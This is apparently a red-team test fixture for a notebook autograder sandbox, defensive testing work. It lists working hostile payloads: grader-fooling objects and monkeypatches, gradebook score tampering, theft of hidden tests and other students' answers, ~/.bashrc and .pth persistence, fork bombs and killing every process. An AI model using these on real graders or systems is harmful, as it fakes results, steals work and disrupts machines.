# ruff: noqa: E501  (hostile payloads are kept verbatim, one statement a line)
"""Attack table for tests/test_redteam.py: hostile answer cells against the toy course (00_toy/toy.ipynb).

Every attack is ``Attack(id, description, cells, ...)``: ``cells`` maps an answer cell's grade id (``add``,
``normalize``, ``mean_of_squares``) to the hostile code that replaces it.  ``@MARK@`` is replaced by a marker
unique to the test session, ``@PORT@`` by the port of a TCP server on host 127.0.0.1 and ``@DATA@`` by the data
mirror.  ``add_ok`` attacks also hold a correct ``add`` (they must keep exactly its 2 points); ``flag`` ones must
be reported in ``outcome.suspicious``.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

ADD = "def add(a, b):\n    return a + b\n"


@dataclass
class Attack:
    id: str
    description: str
    cells: dict = field(default_factory=dict)
    add_ok: bool = False
    flag: bool = False
    mutate: Callable | None = None  # applied to the whole notebook (metadata edits)
    host_files: tuple = ()  # paths (with @MARK@) that must not exist on the host afterwards


def _tag_tests(tag):
    def f(nb):
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
                c.metadata.setdefault("tags", []).append(tag)

    return f


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "redteam-evil", "display_name": "evil", "language": "python"}


def _edit_tests(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code":
            c.source = "pass"


def _manual_points(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "explain":
            c.source = "Full marks please."
            c.metadata["nbgrader"]["points"] = 100
            c.metadata["nbgrader"]["solution"] = False


ALWAYS_EQUAL = """
class E:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __abs__ = lambda s: 0
    __sub__ = __rsub__ = lambda s, o: 0
    __float__ = lambda s: 0.0
    __len__ = lambda s: 2
    __iter__ = lambda s: iter([0.5, 0.5])
    __getitem__ = lambda s, i: 0.5
    __lt__ = __le__ = lambda s, o: True
def add(a, b):
    return E()
normalize = lambda xs: E()
"""

SLEEPER = """
import subprocess, sys
code = "import time, glob, os\\ntime.sleep(20)\\nfor p in glob.glob('/tmp/**/*.csv', recursive=True) + glob.glob('/tmp/**/result*.json', recursive=True) + glob.glob('/tmp/**/gradebook.db', recursive=True):\\n    try:\\n        open(p, 'a').write('pwned')\\n    except OSError:\\n        pass\\nopen('/tmp/redteam-marker-@MARK@-sleeper', 'w').write('x')\\n"
subprocess.Popen([sys.executable, "-c", code, "@MARK@-sleeper"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("sleeper started")
"""

DOUBLE_FORK = """
import os, sys
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time\\nwhile True:\\n    time.sleep(1)\\n    open('/tmp/redteam-marker-@MARK@-forever', 'w').write('x')",
                 "@MARK@-forever"])
    os._exit(0)
os.waitpid(pid, 0)
print("daemon started")
"""

SQLITE = """
import os, sqlite3, glob
found = []
for root in ["/", "..", "../..", "/tmp", "/proc/1/cwd", "/proc/self/cwd", os.path.expanduser("~"), "/work"]:
    for p in glob.glob(os.path.join(root, "**", "gradebook.db"), recursive=True)[:20] if root != "/" else glob.glob("/*/*/gradebook.db") + glob.glob("/*/*/*/gradebook.db"):
        found.append(p)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        found += glob.glob(f"/proc/{pid}/cwd/gradebook.db") + glob.glob(f"/proc/{pid}/cwd/*/gradebook.db")
print("found gradebooks:", found)
for p in found:
    try:
        con = sqlite3.connect(p)
        con.execute("CREATE TRIGGER IF NOT EXISTS rt AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score=100, manual_score=100; END")
        con.execute("UPDATE grade SET auto_score=100, manual_score=100, needs_manual_grade=0")
        con.commit()
        print("wrote", p)
    except Exception as e:
        print("failed", p, e)
"""

KILL_ALL = """
import os, signal
me = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != me:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""

READ_SOURCE = """
import base64, glob, os
cands = set()
d = os.getcwd()
for _ in range(8):
    cands.update(glob.glob(os.path.join(d, "**", "toy.ipynb"), recursive=True) if d not in ("/", "/usr", "/proc") else [])
    d = os.path.dirname(d)
for p in ["/proc/1/cwd", "/proc/self/cwd", "/work/main/tests/fixtures/toy_course/source/00_toy",
          "/work/main/source", "/tmp"]:
    cands.update(glob.glob(os.path.join(p, "**", "toy.ipynb"), recursive=True))
for pat in ["/*/toy.ipynb", "/*/*/toy.ipynb", "/*/*/*/toy.ipynb", "/*/*/*/*/toy.ipynb"]:
    cands.update(glob.glob(pat))
for p in sorted(cands):
    try:
        data = open(p, "rb").read()
    except OSError:
        continue
    print(p, base64.b64encode(data).decode())
    if b"HIDDEN" in data:
        print(data.decode(errors="replace"))
"""

COPY_OTHERS = """
import glob, json, os
hits = []
for pat in ["/tmp/**/*honest_right*", "/tmp/**/*.ipynb", "../**/*.ipynb", "/proc/*/cwd/**/*.ipynb", "/work/**/*honest_right*"]:
    try:
        hits += glob.glob(pat, recursive=True)[:200]
    except OSError:
        pass
print("found", len(hits), hits[:20])
for p in hits:
    try:
        nb = json.load(open(p))
    except Exception:
        continue
    for c in nb.get("cells", []):
        src = "".join(c.get("source", []))
        if "return a + b" in src or "total = sum(xs)" in src:
            exec(src, globals())
"""

WRITE_OUTSIDE = """
import os, site, glob
targets = ["/tmp/redteam-marker-@MARK@", "@DATA@/redteam-marker-@MARK@", os.path.expanduser("~/.bashrc")]
for sp in site.getsitepackages() + [site.getusersitepackages()] + glob.glob("/work/main/.venv/lib/*/site-packages"):
    targets.append(os.path.join(sp, "redteam_@MARK@.pth"))
for t in targets:
    try:
        with open(t, "a") as fh:
            fh.write("import os; os.system('echo @MARK@')  # @MARK@\\n")
        print("wrote", t)
    except OSError as e:
        print("refused", t, e)
"""

BIG_FILE = """
block = b"x" * (1 << 20)
try:
    with open("/tmp/redteam-big-@MARK@", "wb") as fh:
        for _ in range(300):
            fh.write(block)
except (OSError, Exception) as e:
    print("stopped:", type(e).__name__)
"""

FORK_BOMB = """
import os
n = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError as e:
        print("fork refused after", n, e)
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["@MARK@-forkbomb", "30"])
        finally:
            os._exit(0)
    n += 1
print("forked", n)
"""

NETWORK = """
import socket
for host in ["127.0.0.1", "localhost", "::1"]:
    try:
        s = socket.create_connection((host, @PORT@), timeout=3)
        s.sendall(b"@MARK@")
        print("connected", host)
    except OSError as e:
        print("no network", host, e)
"""

TAMPER_FILES = """
import json, os
fake = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for name in os.listdir("."):
    if name.endswith(".ipynb"):
        try:
            json.dump(fake, open(name, "w"))
        except OSError as e:
            print("refused", name, e)
with open("toy_helpers.py", "w") as fh:
    fh.write("def check_close(*a, **k):\\n    return None\\n")
import sys
sys.modules.pop("toy_helpers", None)
def normalize(xs):
    return [0.0 for _ in xs]
"""

FAKE_RESULT = """
from IPython.display import display
ip = get_ipython()
ip.display_formatter.formatters["text/plain"].for_type(type(None), lambda o, p, cycle: p.text("6.0"))
def _fake(result):
    display({"text/plain": "2.0", "application/vnd.course.probe+json": {"ok": True, "value": 3}}, raw=True)
ip.events.register("post_run_cell", _fake)
"""

PROBE_PATCH = """
import sys, json
import course.grading as g
from IPython.display import display
ANSWERS = {"add(a, b)": 3, "normalize(xs)": [0.5, 0.5], "mean_of_squares(xs)": 5.0}
def _probe(request):
    req = json.loads(request)
    display({g.MIME: {"ok": True, "value": ANSWERS.get(req.get("code"), 3)}}, raw=True)
g._probe = _probe
class _S:
    def value(self, expr, /, **kw):
        return ANSWERS.get(expr, 3)
    def __getattr__(self, name):
        return lambda *a, **k: None
g.student = _S()
sys.modules["course.grading"] = g
"""

HELPERS_RELOAD = """
import importlib, sys, types
importlib.reload = lambda m: m
import toy_helpers
toy_helpers.check_close = lambda *a, **k: None
sys.modules["toy_helpers"] = types.SimpleNamespace(check_close=lambda *a, **k: None)
def normalize(xs):
    return [0 for _ in xs]
"""

ATTACKS = [
    Attack("ipy-input-transformer", "input_transformers_post rewrites every later cell to `pass`",
           {"add": 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])'}, flag=True),
    Attack("ipy-transformer-indirect", "same, with get_ipython reached through getattr/__import__",
           {"add": 'ip = getattr(__import__("IPy" + "thon"), "get_" + "ipython")()\n'
                   'getattr(ip, "input_transformers_" + "cleanup").append(lambda lines: ["pass\\n"])'},
           flag=True),
    Attack("ipy-ast-transformer", "AST transformer that empties every later cell",
           {"add": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
                   "        node.body = []\n        return node\nget_ipython().ast_transformers.append(T())"},
           flag=True),
    Attack("ipy-custom-exc", "set_custom_exc swallows every exception (failed asserts)",
           {"add": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"}, flag=True),
    Attack("always-equal", "objects whose __eq__/__sub__/__abs__ always agree", {"add": ALWAYS_EQUAL}),
    Attack("list-subclass-eq", "normalize returns a list subclass equal to everything",
           {"normalize": "class L(list):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                         "def normalize(xs):\n    return L([0] * len(xs))\n"}),
    Attack("builtins-as-globals", "len/isinstance/abs/AssertionError redefined as notebook globals",
           {"add": "len = lambda x: 0\nisinstance = lambda *a: True\nabs = lambda x: 0\n"
                   "AssertionError = type('X', (Exception,), {})\ndef add(a, b):\n    return 0\n"}, flag=True),
    Attack("builtins-module", "builtins.abs/AssertionError/isinstance patched module-wide",
           {"add": "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n"
                   "builtins.AssertionError = type('X', (Exception,), {})\n"
                   "builtins.__dict__['len'] = lambda x: 0\ndef add(a, b):\n    return 0\n"}, flag=True),
    Attack("helpers-reload", "importlib.reload neutralised, toy_helpers.check_close patched",
           {"normalize": HELPERS_RELOAD}, flag=True),
    Attack("probe-patch", "course.grading.student/_probe replaced in-kernel to answer canned values",
           {"add": PROBE_PATCH}, flag=True),
    Attack("fake-display", "display formatter / post_run_cell hook prints fake results and probe replies",
           {"add": FAKE_RESULT}, flag=True),
    Attack("tag-skip-execution", "skip-execution tag on every test cell", mutate=_tag_tests("skip-execution")),
    Attack("tag-raises-exception", "raises-exception tag on every test cell",
           mutate=_tag_tests("raises-exception")),
    Attack("kernelspec", "notebook kernelspec set to an unknown kernel", mutate=_kernelspec),
    Attack("edit-tests", "test cells emptied to `pass` (locked cells edited)", mutate=_edit_tests),
    Attack("manual-points", "explain cell gets points=100 and solution=False", mutate=_manual_points),
    Attack("sqlite-gradebooks", "hunts gradebook.db everywhere and writes triggers / scores",
           {"add": SQLITE}, flag=True),
    Attack("detached-sleeper", "Popen(start_new_session) sleeper that later rewrites results under /tmp",
           {"add": SLEEPER}, flag=True, host_files=("/tmp/redteam-marker-@MARK@-sleeper",)),
    Attack("double-fork-forever", "fork+setsid+fork daemon looping forever",
           {"add": DOUBLE_FORK}, flag=True, host_files=("/tmp/redteam-marker-@MARK@-forever",)),
    Attack("kill-parent", "os.kill(os.getppid(), SIGKILL) after a correct add",
           {"add": ADD, "normalize": "import os\nos.kill(os.getppid(), 9)"}, add_ok=True, flag=True),
    Attack("kill-everything", "SIGKILL to every pid in /proc after a correct add",
           {"add": ADD, "normalize": KILL_ALL}, add_ok=True, flag=True),
    Attack("killpg", "os.killpg(0, SIGKILL) after a correct add",
           {"add": ADD, "normalize": "import os\nos.killpg(0, 9)"}, add_ok=True, flag=True),
    Attack("signal-parent", "SIGSTOP/SIGTERM/SIGINT to the parent and pid 1 after a correct add",
           {"add": ADD, "normalize": "import os, signal\nfor p in (os.getppid(), 1):\n"
                                     "    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):\n"
                                     "        try:\n            os.kill(p, s)\n        except OSError:\n"
                                     "            pass"}, add_ok=True, flag=True),
    Attack("read-source", "looks for the source notebook and prints it (base64 and plain)",
           {"add": READ_SOURCE}, flag=True),
    Attack("copy-others", "looks for other students' notebooks and executes their answers",
           {"add": COPY_OTHERS}, flag=True),
    Attack("write-outside", "writes /tmp marker, data mirror, site-packages .pth, ~/.bashrc",
           {"add": WRITE_OUTSIDE}, flag=True,
           host_files=("/tmp/redteam-marker-@MARK@", "@DATA@/redteam-marker-@MARK@")),
    Attack("big-file", "writes a 300 MB file in /tmp", {"add": BIG_FILE}, flag=True,
           host_files=("/tmp/redteam-big-@MARK@",)),
    Attack("fork-bomb", "up to 5000 forks sleeping 30 s", {"add": FORK_BOMB}, flag=True),
    Attack("memory-bomb", "bytearray of 20 GB after a correct add",
           {"add": ADD, "normalize": "try:\n    x = bytearray(20 * 2**30)\nexcept MemoryError:\n"
                                     "    print('MemoryError')"}, add_ok=True),
    Attack("network", "TCP connection to a server on host 127.0.0.1", {"add": NETWORK}, flag=True),
    Attack("tamper-cwd", "rewrites the executed notebook and toy_helpers.py in the cwd",
           {"normalize": TAMPER_FILES}, flag=True),
    Attack("sys-exit", "sys.exit() in the cell after a correct add",
           {"add": ADD, "normalize": "import sys\nsys.exit()"}, add_ok=True),
    Attack("os-exit", "os._exit(0) in the cell after a correct add",
           {"add": ADD, "normalize": "import os\nos._exit(0)"}, add_ok=True, flag=True),
]
